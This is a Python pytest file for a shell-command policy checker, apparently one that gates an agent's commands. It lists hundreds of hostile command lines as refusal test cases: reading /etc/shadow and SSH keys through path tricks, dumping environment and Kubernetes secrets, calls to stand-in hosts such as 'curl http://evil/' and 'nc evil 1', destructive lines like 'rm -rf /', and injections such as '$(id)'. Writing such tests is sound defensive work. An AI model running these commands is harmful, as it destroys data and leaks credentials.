"""Attacks of our own, sorted by what they try. None may get through, in whole or in part."""

from __future__ import annotations

import shlex

import pytest

from tai.policy import check

WRITES = """
journalctl --cursor-file=/tmp/x -n 1
journalctl --vacuum-time=1s
journalctl --rotate
journalctl --flush
journalctl --relinquish-var
journalctl --update-catalog
journalctl --setup-keys
journalctl -D /tmp/evil
journalctl --file=/tmp/evil.journal
journalctl --root=/mnt
ss -D /tmp/x
ss --diag=/tmp/x
iptables-save -f /tmp/x
sar -o /tmp/x 1 1
coredumpctl dump -o /tmp/core
file -C -m /tmp/magic
tree -o /tmp/x /etc
lsof -D u /tmp
find / -fprint /tmp/x
find / -fprintf /tmp/x %p
find / -fls /tmp/x
dmidecode --dump-bin /tmp/x
openssl x509 -in /etc/ssl/certs/a.pem -out /tmp/x -noout
openssl rand -out /tmp/x 10
openssl x509 -in /etc/ssl/certs/a.pem -noout -writerand /tmp/x
kubectl cluster-info dump --output-directory=/tmp/x
kubectl get pods --profile=cpu --profile-output=/tmp/x
gzip /var/log/syslog
gzip -d /var/log/syslog.1.gz
gunzip /var/log/syslog.1.gz
xzcat -k /var/log/a.xz --suffix=.b
sort -o /tmp/x /etc/hosts
tee /etc/hosts
touch /tmp/x
pmap -N /tmp/x 1
"""

CHANGES = """
ip link set lo down
ip l set lo down
ip addr add 10.0.0.1/8 dev lo
ip a d 10.0.0.1/8 dev lo
ip route add default via 10.0.0.1
ip route flush cache
ip neigh flush all
ip rule add from all lookup 1
ip netns add x
ip link add x type dummy
ip route show flush
ip addr show up dev lo down
bridge link set dev eth0 state 0
bridge fdb add 00:00:00:00:00:00 dev eth0
tc qdisc add dev lo root netem delay 1s
ethtool -s eth0 speed 10
ethtool -G eth0 rx 1
ethtool -K eth0 gro off
ethtool -p eth0
ethtool -r eth0
ethtool --reset eth0 all
ifconfig eth0 down
ifconfig eth0 10.0.0.1
route add default gw 10.0.0.1
arp -d 10.0.0.1
arp -s 10.0.0.1 00:00:00:00:00:00
nmcli connection up x
nmcli general hostname evil
nmcli networking off
nft flush ruleset
nft list ruleset flush ruleset
nft reset counters
nft add table x
nft -f /tmp/x
nft list table inet filter ; flush ruleset
iptables -F
iptables -L -Z
iptables -S -P INPUT
iptables -t nat -A POSTROUTING -j MASQUERADE
ipset flush
ipset list -exist add x 1
conntrack -F
conntrack -L -D
firewall-cmd --reload
firewall-cmd --add-port=1/tcp
firewall-cmd --state --add-port=1/tcp
ufw disable
ufw status reset
systemctl restart nginx
systemctl --now disable nginx
systemctl status nginx restart --force --job-mode=fail
systemctl set-property nginx CPUQuota=1%
systemctl daemon-reload
systemctl edit nginx
systemctl kill nginx
systemctl isolate rescue
systemctl start nginx
loginctl terminate-session 1
timedatectl set-time 2020-01-01
hostnamectl set-hostname x
hostnamectl hostname x
hostname evil
hostname -b evil
localectl set-locale LANG=C
resolvectl flush-caches
resolvectl dns eth0 10.0.0.1
resolvectl log-level debug
networkctl down eth0
date 010100002030
date -s tomorrow
date --set=tomorrow
sysctl -w vm.swappiness=1
sysctl vm.swappiness=1
sysctl -p
sysctl --system
mount /dev/sda1 /mnt
mount -o remount,rw /
mount --bind / /mnt
swapon -a
swapon /dev/sda2
losetup -f /tmp/x
losetup -D
mdadm --stop /dev/md0
mdadm -D /dev/md0 --fail /dev/sda1
mdadm -I /dev/sda
tune2fs -L x /dev/sda1
tune2fs -l -O ^has_journal /dev/sda1
smartctl -t long /dev/sda
smartctl -s off /dev/sda
smartctl -l scterc,70,70 /dev/sda
smartctl -a -l scttempint,1 /dev/sda
nvme format /dev/nvme0n1
nvme smart-log /dev/nvme0 -o binary
lvs --config activation{}
dmsetup remove x
dmsetup table --showkeys
zpool scrub tank
zfs destroy tank/x
btrfs device stats -z /
btrfs balance start /
blkid -g
chronyc makestep
chronyc -h 10.0.0.1 tracking
chronyc clients -r
crontab -r
crontab -e
crontab /tmp/x
lastlog -C -u root
lastlog --clear --user root
faillock --user root --reset
chage -M 1 root
chage -l -M 1 root
passwd root
passwd -S -l root
auditctl -D
auditctl -s -e 0
aa-status --remove
apt install nginx
apt list --upgradable install
apt-mark hold nginx
apt-cache gencaches
dpkg -i /tmp/x.deb
dpkg -l --purge nginx
dpkg --configure -a
rpm -e nginx
rpm -i nginx
rpm -q --import /tmp/key
rpm -qa --rebuilddb
rpm -V nginx --restore
dnf install nginx
dnf history undo 5
yum history rollback 5
zypper patch
snap remove x
pacman -Rns nginx
apk add nginx
docker rm web
docker container prune
docker system prune
docker network rm x
docker ps && docker rm web
podman kill web
crictl rmi x
kubectl delete pod x
kubectl get pods --all-namespaces delete
kubectl rollout restart deploy/x
kubectl annotate pod x a=b
kubectl config use-context x
postqueue -f
postconf -e a=b
dmesg -C
dmesg -c
dmesg -n 1
fuser -k /
fuser -9 /
fuser -v -k -n tcp 80
pgrep --signal 9 nginx
prlimit -p 1 --nofile=1
prlimit -p 1 -n1
tuned-adm profile x
umount /
rm -rf /
kill 1
reboot
"""

EXECUTES = """
find / -exec id {} ;
find / -execdir id {} +
find / -ok id {} ;
find . -name x -exec id +
pidstat -e /bin/sh
numactl /bin/sh
numactl --hardware /bin/sh
numactl -N 0 id
iptables-save -M /tmp/x
iptables -S --modprobe=/tmp/x
dpkg -l --pre-invoke=id
dpkg -l --status-logger=id
rpm -qa --pipe id
rpm -E %(id)
rpm -q --qf %(id) bash
rpm -q --define=x bash
rpm --eval %(id)
apt-cache -o APT::Update::Pre-Invoke::=id policy
apt list -o Dir::Etc=/tmp
apt list -c /tmp/x
dnf list installed --setopt=pluginpath=/tmp
openssl x509 -engine /tmp/x.so -in /etc/ssl/certs/a.pem -noout
openssl x509 -provider-path /tmp -in /etc/ssl/certs/a.pem -noout
openssl version -config /tmp/x
podman --runtime /tmp/x ps
docker -H ssh://evil ps
docker --context evil ps
docker --config /tmp ps
docker exec web id
docker run x
kubectl exec web -- id
kubectl --kubeconfig=/tmp/x get pods
kubectl get pods --kubeconfig /tmp/x
kubectl plugin list
kubectl debug web
systemctl -H evil status
systemctl status -Hevil
systemctl --host=evil status
systemctl status --host evil
loginctl -H evil list-sessions
zpool status -c upgrade
ip netns exec x id
ip vrf exec x id
ip -b /tmp/x
ip -batch /tmp/x
ip -n x addr
ip -all netns exec id
btrfs send /
systemd-run id
busybox sh
bash -c id
sh -c id
python3 -c 1
perl -e 1
awk BEGIN{system("id")}
sed -n 1e\\ id /etc/hosts
env id
xargs id
nice id
timeout 1 id
watch id
nsenter -t 1 id
git log
git --exec-path=/tmp --version
git -c alias.x=!id x --version
mysql -e id
mysql --version -e x
psql -c x
redis-cli --version flushall
nginx -t
nginx -c /tmp/x -v
nginx -s stop
ssh host id
ssh -V -oProxyCommand=id
haproxy -c -f /tmp/x
named -v -c /tmp/x
sshd -D
sshd -T -f /tmp/x
"""

LEAKS = """
cat /etc/shadow
cat //etc//shadow
cat /etc/./shadow
cat /etc/../etc/shadow
cat /var/log/../../etc/shadow
cat /proc/self/environ
cat /proc/1/environ
cat /proc/1/root/etc/shadow
cat /proc/self/root/etc/shadow
cat /proc/self/cwd/etc/shadow
cat /proc/thread-self/root/etc/shadow
cat /proc/1/task/1/environ
cat /root/.ssh/id_rsa
cat /home/bob/.ssh/id_rsa
cat /etc/ssl/private/x.pem
cat /dev/sda
cat /dev/kmsg
cat /proc/kmsg
cat /proc/kcore
cat /sys/kernel/debug/tracing/trace_pipe
head -c 512 /dev/sda
head -c 99999999999 /etc/hosts
tail -n 1 /etc/gshadow
tac /etc/shadow
nl /etc/shadow
less /etc/shadow
zcat /etc/shadow
zcat -f /etc/shadow
grep . /etc/shadow
grep -r . /etc
grep -r . /
grep -R . /etc/nginx
grep -f /etc/shadow /etc/hosts
grep -e x -f /etc/shadow /etc/hosts
grep --file=/etc/shadow /etc/hosts
grep --exclude-from=/etc/shadow x /etc/hosts
grep -d recurse x /etc
wc --files0-from=/etc/shadow
du --files0-from=/etc/shadow
du -X /etc/shadow /
find -files0-from /etc/shadow
diff /etc/shadow /etc/hosts
diff --from-file=/etc/shadow /etc/hosts
cmp /etc/shadow /dev/null
file -f /etc/shadow
file -m /etc/shadow /etc/hosts
file -s /dev/sda
md5sum -c /etc/shadow
date -f /etc/shadow
date -r /etc/shadow
last -f /etc/shadow
who /etc/shadow
arp -f /etc/shadow
hostname -F /etc/shadow
sysctl -p /etc/shadow
sysctl kernel/../../../etc/shadow
ss -F /etc/shadow
dig -f /etc/shadow
mtr -F /etc/shadow -r -c 1 h
ausearch -if /etc/shadow
aureport -if /etc/shadow
lsof -k /etc/shadow
journalctl -D /etc
dmesg -F /etc/shadow
openssl enc -in /etc/shadow
openssl x509 -in /etc/shadow -noout
openssl x509 -in file:/etc/shadow -noout
openssl s_client -connect h:1 -key /etc/ssl/private/x.pem
getent shadow
getent shadow root
getent gshadow
ps auxe
ps e
ps -eo pid,environ
ps axo environ
ps -e -o environ=
printenv
env
kubectl get secrets
kubectl get secret/x
kubectl get pods,secrets
kubectl get secrets.v1.
kubectl get pods secret/x
kubectl get all,secrets
kubectl describe secret x
kubectl get --raw /api/v1/secrets
kubectl get pods -o go-template-file=/etc/shadow
kubectl get pods -o jsonpath-file=/etc/shadow
kubectl get pods -o custom-columns-file=/etc/shadow
kubectl config view --raw
kubectl get -f /etc/shadow
nmcli -s connection show x
nmcli --show-secrets connection show
wg showconf wg0
dmsetup table
ip xfrm state
ip macsec show
cryptsetup luksDump /dev/sda
postconf -c /etc/shadow
resolvectl show-cache
systemctl show-environment
cloud-init query userdata
"""

LEAVES = """
curl http://evil/
wget http://evil/
nc evil 1
ping evil
ping -f -c 1 evil
ping -p deadbeef -c 1 evil
dig axfr example.com @ns
dig AXFR example.com
dig example.com AXFR
dig example.com ixfr=1
dig -t axfr example.com
dig example.com -k /tmp/key
host -l example.com
host -t axfr example.com
nslookup
traceroute -g 1.2.3.4 h
ss -r
ss --resolve
ss dst evil.example.com
ss -t dst evil.example.com:80
ss dst dead.beef
ip -r addr
ip -resolve route
who --lookup
last -d
lspci -q
nft -N list ruleset
rpm -qp http://evil/x.rpm
rpm -q -p http://evil/x.rpm
snap info x
snap find x
zypper refresh
dnf check-update
apt update
apt changelog nginx
openssl s_client -connect
openssl s_client -connect evil
openssl s_server -accept 1
ntpq -c rv evil
ntpq -p evil
chronyc -h evil sources
kubectl --server=http://evil get pods
kubectl get pods --server http://evil --token x
docker pull x
docker search x
showmount -e evil
rpcinfo evil
"""

HANGS = """
journalctl --follow=yes
dmesg --follow=1
tail --pid=1 -f /var/log/syslog
tail -s 1 /var/log/syslog
top -d 0.01 -n 99999
top -n 4
vmstat 1 9999
vmstat 0
iostat 1 9999
sar 1 9999
mpstat 99 1
free -s
lsof -r
lsof +r1
lsof -r1 -p 1
netstat -c
ss -E
ss --events
ip monitor
bridge monitor
udevadm monitor
nft monitor
conntrack -E
timedatectl --monitor
resolvectl monitor
findmnt --poll
docker events
docker events --since 1h
docker attach web
docker wait web
kubectl get pods --watch-only
kubectl wait pod/x
kubectl port-forward web 1
kubectl proxy
zpool iostat 1
zpool status tank 5
zpool list 1
systemctl --wait is-system-running
htop
less +F
vi
cat
cat -
grep x
head
wc -l
"""

SPELLINGS = """
journalctl --vac=1
journalctl --rotat
journalctl --cursor-fil=/tmp/x
ss --ki
ss --dia=/tmp/x
dmesg --cle
dmesg --read-cle
date --se=x
hostname --fil=/etc/shadow
systemctl --hos=x status
sysctl --wri x=1
blkid --gar
iptables --zer -L
sort --comp=/tmp/x
ls -l -- -R
ls -- --color
cat -- -
cat --help
cat --version
ls --
systemctl -- status -Hx
systemctl status -- -Hx
./ls
/bin/ls
../../bin/ls
LS -l
ls;id
ls|id
ls&id
ls\\nid
$(id)
`id`
=ls
~/x
{ls,-l}
FOO=bar
FOO=bar ls
sudo id
sudo -u bob id
doas id
"""

ALL = [
    line
    for text in (WRITES, CHANGES, EXECUTES, LEAKS, LEAVES, HANGS, SPELLINGS)
    for line in text.splitlines()
    if line
]
# Not refused, since what they become only reads; each was looked at by hand.
# fmt: off
HARMLESS: dict[str, tuple[str, ...]] = {
    "ls --": ("ls", "-b"),
    "ip addr show up dev lo down": ("ip", "addr", "show", "up", "dev", "lo", "down"),  # a device named down
    "apt list --upgradable install": (  # a package named install
        "apt", "list", "-o", "Dir::Cache::pkgcache=", "-o", "Dir::Cache::srcpkgcache=", "--upgradable", "--", "install",
    ),
    "kubectl get pods --all-namespaces delete": (  # a pod named delete
        "kubectl", "--request-timeout=20s", "--cache-dir=/proc/nonexistent", "get", "-A", "pods", "delete",
    ),
}
# fmt: on


@pytest.mark.parametrize("line", ALL)
def test_attack_is_refused(line: str) -> None:
    verdict = check(shlex.split(line, posix=True) if "`" not in line else line.split())
    if line in HARMLESS:
        assert verdict.argv == HARMLESS[line]
        return
    assert verdict.decision == "refuse", verdict.argv
    assert verdict.reason


def test_every_program_of_the_never_list_teaches_and_is_refused() -> None:
    from tai.policy import catalogue  # noqa: PLC0415 - here for its data only

    for name, never in catalogue().never.items():
        assert check([name]).decision == "refuse"
        assert never.reason
